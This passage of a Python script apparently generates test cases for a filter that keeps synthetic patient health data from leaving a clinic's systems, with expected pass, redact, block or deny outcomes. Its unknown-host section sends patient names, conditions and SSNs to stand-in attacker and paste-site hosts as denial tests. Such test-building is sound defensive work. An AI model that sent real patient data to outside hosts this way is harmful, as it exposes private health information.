    o = {"audio_url": f"https://recordings.{SITE}/r/{uuid()}.wav", "word_boost": [p.first, p.last, p.med()], "speaker_labels": True,
         "webhook_url": f"https://hooks.{SITE}/asr?mrn={p.mrn}&dob={p.dobs('iso')}"}
    add(S, "POST", f"{ASR}/v2/transcript", {**JSONH, "Authorization": alnum(32)}, J(o), NM(p) + [[p.mrn, "mrn"], [p.dobs("iso"), "dob"]], ["word_boost"], "redact")
    # 7: utterances with a speaker's full name split over two word objects and the phone in digits
    p = nextp()
    tr = f"Can I get a callback at {p.phone('bare')}? This is {p.first} {p.last}, I have {p.dx()}."
    o = {"id": uuid(), "text": tr, "utterances": [{"speaker": "B", "text": tr, "words": words_of(tr, style="aai")}]}
    add(S, "POST", f"{ASR}/v2/transcript/{uuid()}/redo", {**JSONH, "Authorization": alnum(32)}, J(o), NM(p) + [[p.phone("bare"), "phone"], [p.dx(), "condition"]], [], "redact")
    # 8: a transcript to the allow-all partner
    p = nextp()
    tr = f"{p.full}, date of birth {p.dobs('long')}, here for {p.dx()}."
    add(S, "POST", f"{HIE}/notes/dictation", JSONH, J({"transcript": tr, "words": words_of(tr)}), [[p.full, "name"], [p.dobs("long"), "dob"], [p.dx(), "condition"]], [], "pass")

    S = "asr_clean"
    tr = "Thank you for calling Bayou Teche Family Medicine. Press 1 for appointments, 2 for prescription refills, 3 for billing, or stay on the line."
    add(S, "POST", f"{CALLQA}/v1/transcripts?vendor=dg", JSONH, J({"results": {"channels": [{"alternatives": [{"transcript": tr, "words": words_of(tr)}]}]}}), [],
        ["Press 1 for appointments"], "pass")
    tr = "Your call is important to us. The average wait is 4 minutes. You can also request refills online at bayoutechefm.org."
    add(S, "POST", f"{CALLQA}/v1/words", JSONH, J({"call_id": "c-" + digits(8), "words": words_of(tr, style="aai")}), [], ["important"], "pass")
    add(S, "POST", f"{ASR}/v2/transcript", {**JSONH, "Authorization": alnum(32)}, J({"audio_url": f"https://recordings.{SITE}/ivr/main-menu-v7.wav", "language_code": "en_us",
        "punctuate": True, "format_text": True}), [], ["main-menu-v7.wav"], "pass")


# ============================================================================= 13. error trackers (block) and their clean events
def error_trackers():
    S = "error_tracker"
    EH = {**JSONH, "X-Sentry-Auth": "Sentry sentry_version=7, sentry_key=" + hexs(32)}
    p = nextacc()
    hdr = f"To: {ew_q(p.full, 'UTF-8')} <{p.email}"
    add(S, "POST", f"{ERR1}/api/44812/store/", EH, J({"exception": {"values": [{"type": "HeaderParseError", "value": f"expected '>' at end of address in {hdr!r}"}]},
        "tags": {"component": "mailer"}}), [[p.email, "email"], [ew_q_word(p.last, "UTF-8"), "name"]], [], "block")
    p = nextacc()
    raw = f"{p.full};{p.dobs('iso')};{p.phone('dash')}".encode("latin-1")
    add(S, "POST", f"{ERR1}/api/44812/store/", EH, J({"exception": {"values": [{"type": "UnicodeDecodeError",
        "value": f"'utf-8' codec can't decode byte 0x{raw[[i for i, b in enumerate(raw) if b > 127][0]]:02x} in position {[i for i, b in enumerate(raw) if b > 127][0]}: invalid continuation byte",
        "stacktrace": {"frames": [{"function": "import_row", "vars": {"line": repr(raw)}}]}}]}}),
        [[repr(raw)[2:-1].split(";")[0], "name"], [p.dobs("iso"), "dob"], [p.phone("dash"), "phone"]], [], "block")
    p = nextp()
    hx = ucs2hex(f"{p.first}, {p.dx()} results ready")
    add(S, "POST", f"{ERR2}/api/v1/events", JSONH, J({"message": f"ESME_RINVPARAM data_coding=8 dest={p.phone('e164')} payload={hx}", "level": "error"}),
        [[p.phone("e164"), "phone"], [hx, "condition"]], [], "block")
    p = nextp()
    em = qp(f"Patient {p.full} DOB {p.dobs('us')}", force=[p.dobs("us")])
    add(S, "POST", f"{ERR2}/api/v1/events", JSONH, J({"message": "QP decode warning: stray '=' in body", "extra": {"snippet": em}, "level": "warning"}),
        forms([(em, "utf-8")], [(p.full, "name"), (p.dobs("us"), "dob")]), [], "block")
    p = nextp()
    add(S, "POST", f"{ERR1}/api/44812/store/", EH, J({"exception": {"values": [{"type": "RateLimitError", "value": "429 from api.clinicalgpt.example"}]},
        "breadcrumbs": {"values": [{"category": "llm.prompt", "message": f"Draft a letter for {p.full} (MRN {p.mrn}) re {p.dx()}"}]}}),
        [[p.full, "name"], [p.mrn, "mrn"], [p.dx(), "condition"]], [], "block")

    S = "error_clean"
    add(S, "POST", f"{ERR1}/api/44812/store/", EH, J({"exception": {"values": [{"type": "MultipartParseError", "value": f"boundary '{boundary()}' not terminated at byte 18231"}]},
        "release": "mailer@4.12.0", "tags": {"content_type": "multipart/alternative"}}), [], ["mailer@4.12.0", "MultipartParseError"], "pass")
    add(S, "POST", f"{ERR2}/api/v1/events", JSONH, J({"message": "LookupError: unknown encoding: x-mac-roman-ce (message id 20260407.0071)", "level": "warning",
        "context": {"charset": "x-mac-roman-ce", "offset": 412}}), [], ["x-mac-roman-ce", "20260407.0071"], "pass")


# ============================================================================= 14. the allow-all HIE partner (pass byte for byte)
def hie_partner():
    S = "hie_direct"
    DH = {"Authorization": "Bearer " + alnum(40)}
    p = nextacc()
    cda = (f"<ClinicalDocument><recordTarget><patientRole><id extension=\"{p.mrn}\"/><addr><streetAddressLine>{p.street}</streetAddressLine><postalCode>{p.zip}</postalCode></addr>"
           f"<patient><name><given>{p.first}</given><family>{p.last}</family></name><birthTime value=\"{p.dobs('d8')}\"/></patient></patientRole></recordTarget></ClinicalDocument>")
    blob = b64wrap(cda.encode()); bnd = boundary()
    txt = qp(f"Referral for {p.full}, DOB {p.dobs('us')}, {p.dx()}. SSN {p.ssn}.", force=[p.ssn])
    body = mail(std_headers(f"{PRACTICE} <direct@direct.{SITE}>", "referrals@direct.acadiana-hie.example", ew_q(f"Referral {p.full}"), 40,
                            [("Content-Type", f"multipart/mixed; boundary=\"{bnd}\"")]),
                multipart([part("text/plain; charset=utf-8", "quoted-printable", txt), part("application/xml; name=\"ccda.xml\"", "base64", blob)], bnd))
    add(S, "POST", f"{HIE}/direct/send", {**RFC822H, **DH}, body, [[blob, "dob"]] + forms([(txt, "utf-8")], [(p.ssn, "ssn"), (p.dobs("us"), "dob"), (p.dx(), "condition")]),
        [], "pass")
    p = nextacc()
    x = f"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><patient><name>{p.full}</name><dob>{p.dobs('iso')}</dob><ssn>{p.ssn}</ssn><tel>{p.phone('dash')}</tel></patient>"
    add(S, "POST", f"{HIE}/xdr/patients", {"Content-Type": "application/xml; charset=ISO-8859-1", **DH}, x.encode("latin-1"),
        [[seen(p.full, "latin-1"), "name"], [p.dobs("iso"), "dob"], [p.ssn, "ssn"], [p.phone("dash"), "phone"]], [], "pass")
    p = nextp()
    txt = f"MSH|^~\\&|BTFM|BTFM|HIE|HIE|20260407||ADT^A08|{digits(8)}|P|2.5.1\rPID|1||{p.mrn}||{p.ascii_last()}^{p.ascii_first()}||{p.dobs('d8')}|{p.sex}\r"
    add(S, "POST", f"{HIE}/hl7/v2", {"Content-Type": "x-application/hl7-v2+er7; charset=utf-16", **DH}, txt.encode("utf-16"),
        U16([(p.mrn, "mrn"), (p.ascii_last(), "name"), (p.ascii_first(), "name"), (p.dobs("d8"), "dob")]), [], "pass")
    p = nextp()
    hx = ucs2hex(f"{p.full} {p.dobs('us')} {p.dx()}")
    add(S, "POST", f"{HIE}/notify/sms-copy", JSONH, J({"to": p.phone("e164"), "hex": hx}), [[p.phone("e164"), "phone"], [hx, "dob"]], [], "pass")
    p = nextp()
    html = f"<p>{ncr(p.full)} &middot; {ncr_at(p.email)} &middot; SSN {p.ssn.replace('-', '&#45;')}</p>"
    add(S, "POST", f"{HIE}/notes/html", {"Content-Type": "text/html; charset=utf-8", **DH}, html,
        [[ncr(p.full), "name"], [ncr_at(p.email), "email"], [p.ssn.replace("-", "&#45;"), "ssn"]], [], "pass")
    p = nextp()
    m = f"From {p.email} {tstamp(9):%a %b %d %H:%M:%S %Y}\nFrom: {p.full} <{p.email}>\nSubject: records\n\n>From my old clinic: DOB {p.dobs('us')}, SSN {p.ssn}\n"
    add(S, "POST", f"{HIE}/import/mbox", {"Content-Type": "application/mbox", **DH}, m, [[p.email, "email"], [p.full, "name"], [p.dobs("us"), "dob"], [p.ssn, "ssn"]], [], "pass")


# ============================================================================= 15. unknown hosts (deny)
def unknown_hosts():
    S = "unknown_host"
    p = nextp()
    add(S, "POST", "http://api.securemail-relay.example.co/v1/messages/raw", RFC822H,
        mail([("From", FROM_FD), ("To", f"{p.full} <{p.email}>"), ("Subject", "hi")], f"DOB {p.dobs('us')}\r\n"), [[p.full, "name"], [p.email, "email"], [p.dobs("us"), "dob"]], [], "deny")
    p = nextp()
    add(S, "POST", "http://securemail-relay.example/v1/messages/raw", RFC822H, mail([("To", p.email)], f"SSN {p.ssn}\r\n"), [[p.email, "email"], [p.ssn, "ssn"]], [], "deny")
    p = nextp()
    add(S, "POST", "http://api.clinicalgpt.example.attacker.example/v1/chat/completions", JSONH,
        J({"messages": [{"role": "user", "content": f"{p.full} {p.dx()}"}]}), [[p.full, "name"], [p.dx(), "condition"]], [], "deny")
    p = nextp()
    add(S, "GET", f"http://sms.kannel-bridge.example.evil.example/cgi-bin/sendsms?to={p.phone('one')}&text=hi", {}, "", [[p.phone("one"), "phone"]], [], "deny")
    add(S, "GET", "http://files.pastebin-mirror.example/raw/a81Kd", {}, "", [], [], "deny")
    p = nextp()
    add(S, "POST", "http://upload.free-fax-online.example/send", {"Content-Type": "text/plain; charset=utf-16"}, f"RE: {p.full}".encode("utf-16"),
        U16([(p.full, "name")]), [], "deny")
    add(S, "POST", "http://translate.unknown-mt.example/v2", JSONH, J({"q": "Les vaccins sont gratuits."}), [], [], "deny")


SCENARIOS = [mime_qp, newsletters, charset_bodies, json_uescape, html_ncr, xml_cdata, sms_gateway, vcard_ical, mbox_threads, fax_cover, llm_chat, asr_words,
             error_trackers, hie_partner, unknown_hosts]


# ----------------------------------------------------------------------------- self-check (uses the harness's own views)
sys.path.insert(0, "/work/shared/eval")
try:
    from common import views as _h_views, present as _present, dest_of as _dest_of
except Exception:   # harness not available: fall back to a literal search
    _h_views = None
    def _present(v, text): return re.search(r"(?<![A-Za-z0-9])" + re.escape(v) + r"(?![A-Za-z0-9])", text, re.I) is not None
    def _dest_of(pol, host):
        return next((d for d in pol["destinations"] for h in d["hosts"] if h == host or (h.startswith("*.") and host.endswith(h[1:]))), None)


def _views(c):
    u = urlsplit(c["url"]); path = u.path + ("?" + u.query if u.query else "")
    body = base64.b64decode(c["body_b64"]) if "body_b64" in c else c["body"].encode()
    if _h_views:
        return _h_views({"path": path, "headers": c["headers"], "body": body})
    return "\n".join([path, "\n".join(f"{k}: {v}" for k, v in c["headers"].items()), body.decode("utf-8", "replace")])


def selfcheck():
    bad = 0; ids = set(); pol = policy()
    for c in CASES:
        assert c["id"] not in ids, c["id"]; ids.add(c["id"])
        try: c["url"].encode("ascii")
        except UnicodeEncodeError: print(f"selfcheck: {c['id']} url not ascii", file=sys.stderr); bad += 1
        for k, v in c["headers"].items():
            try: v.encode("latin-1")
            except UnicodeEncodeError: print(f"selfcheck: {c['id']} header {k} not latin-1", file=sys.stderr); bad += 1
        if c["headers"].get("Content-Type", "").startswith("application/json") and "charset=utf-16" not in c["headers"]["Content-Type"]:
            try: json.loads(c["body"])
            except Exception: print(f"selfcheck: {c['id']} body is not JSON", file=sys.stderr); bad += 1
        t = _views(c)
        for v, k in c["phi"]:
            if not v.strip("\x00 "): print(f"selfcheck: {c['id']} empty phi {k}", file=sys.stderr); bad += 1
            if not _present(v, t): print(f"selfcheck: {c['id']} phi {k} {v!r} not found", file=sys.stderr); bad += 1
        for v in c["controls"]:
            if not _present(v, t): print(f"selfcheck: {c['id']} control {v!r} not found", file=sys.stderr); bad += 1
            for pv, _ in c["phi"]:
                if _present(pv, v) or _present(v, pv): print(f"selfcheck: {c['id']} control {v!r} overlaps phi {pv!r}", file=sys.stderr); bad += 1
        d = _dest_of(pol, urlsplit(c["url"]).hostname)
        if d is not None and "all" not in d["allow"]:   # a disallowed value readable inside a value that must stay is a contradiction
            keep = [v for v, k in c["phi"] if k in d["allow"]] + c["controls"]
            for v, k in c["phi"]:
                if k not in d["allow"] and any(_present(v, kv) for kv in keep):
                    print(f"selfcheck: {c['id']} disallowed {k} {v!r} is inside a value that must be kept", file=sys.stderr); bad += 1
        if d is None and c["expect"] != "deny": print(f"selfcheck: {c['id']} host has no destination", file=sys.stderr); bad += 1
        if d is not None and c["expect"] == "deny": print(f"selfcheck: {c['id']} deny case but host matches {d['name']}", file=sys.stderr); bad += 1
        dis = [k for _, k in c["phi"]] if d is None else [k for _, k in c["phi"] if "all" not in d["allow"] and k not in d["allow"]]
        if c["expect"] == "redact" and not dis: print(f"selfcheck: {c['id']} redact case without disallowed PHI", file=sys.stderr); bad += 1
        if c["expect"] == "pass" and dis: print(f"selfcheck: {c['id']} pass case with disallowed PHI {dis}", file=sys.stderr); bad += 1
        if c["expect"] == "block" and (d is None or d["on_violation"] != "block" or not dis):
            print(f"selfcheck: {c['id']} block case but destination does not block or nothing disallowed", file=sys.stderr); bad += 1
        if c["expect"] in ("redact", "pass") and d is not None and d["on_violation"] == "block" and dis:
            print(f"selfcheck: {c['id']} disallowed PHI at a blocking destination must expect block", file=sys.stderr); bad += 1
    return bad


def main():
    out = sys.argv[1]; os.makedirs(out, exist_ok=True)
    for f in SCENARIOS:
        f()
    bad = selfcheck()
    json.dump(policy(), open(os.path.join(out, "policy.json"), "w"), indent=1)
    with open(os.path.join(out, "cases.jsonl"), "w", encoding="utf-8") as fh:
        for c in CASES: fh.write(json.dumps(c, ensure_ascii=False) + "\n")
    with open(os.path.join(out, "roster.csv"), "w", encoding="utf-8") as fh:   # only every other patient: exact matching covers about half
        fh.write("first,last,dob,mrn,phone,email\n")
        for i, p in enumerate(PATIENTS):
            if i % 2: continue
            fh.write(f"{p.first},{p.last},{p.dob.isoformat()},{p.mrn},{p.phone('dash')},{p.email}\n")
    ex = {}
    for c in CASES: ex[c["expect"]] = ex.get(c["expect"], 0) + 1
    clean_n = sum(1 for c in CASES if not c["phi"] and c["expect"] == "pass")
    print(f"{len(CASES)} cases -> {out}  {ex}  clean={clean_n} ({100 * clean_n / len(CASES):.0f}%)" + (f"  SELF-CHECK PROBLEMS: {bad}" if bad else ""))


if __name__ == "__main__":
    main()
